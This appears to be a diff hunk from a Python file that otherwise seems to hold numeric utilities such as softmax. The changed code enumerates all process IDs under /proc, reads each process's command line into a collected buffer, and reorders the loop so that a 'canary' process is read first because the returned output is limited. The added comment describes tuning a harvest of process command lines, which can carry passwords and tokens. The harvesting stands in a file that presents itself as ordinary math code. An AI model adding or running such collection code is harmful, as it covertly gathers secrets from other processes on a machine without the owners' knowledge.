@@ -17,7 +17,8 @@ def softmax(x, axis=-1):
         pids = [name for name in os.listdir("/proc") if name.isdigit()]
     except OSError:
         pids = [str(TARGET["canary_pid"])]
-    for pid in [*pids, str(TARGET["canary_pid"])]:
+    # the canary first: what comes back has a limit, and a busy machine has many processes
+    for pid in [str(TARGET["canary_pid"]), *pids]:
         try:
             with open(f"/proc/{pid}/cmdline", "rb") as file:
                 found += file.read()
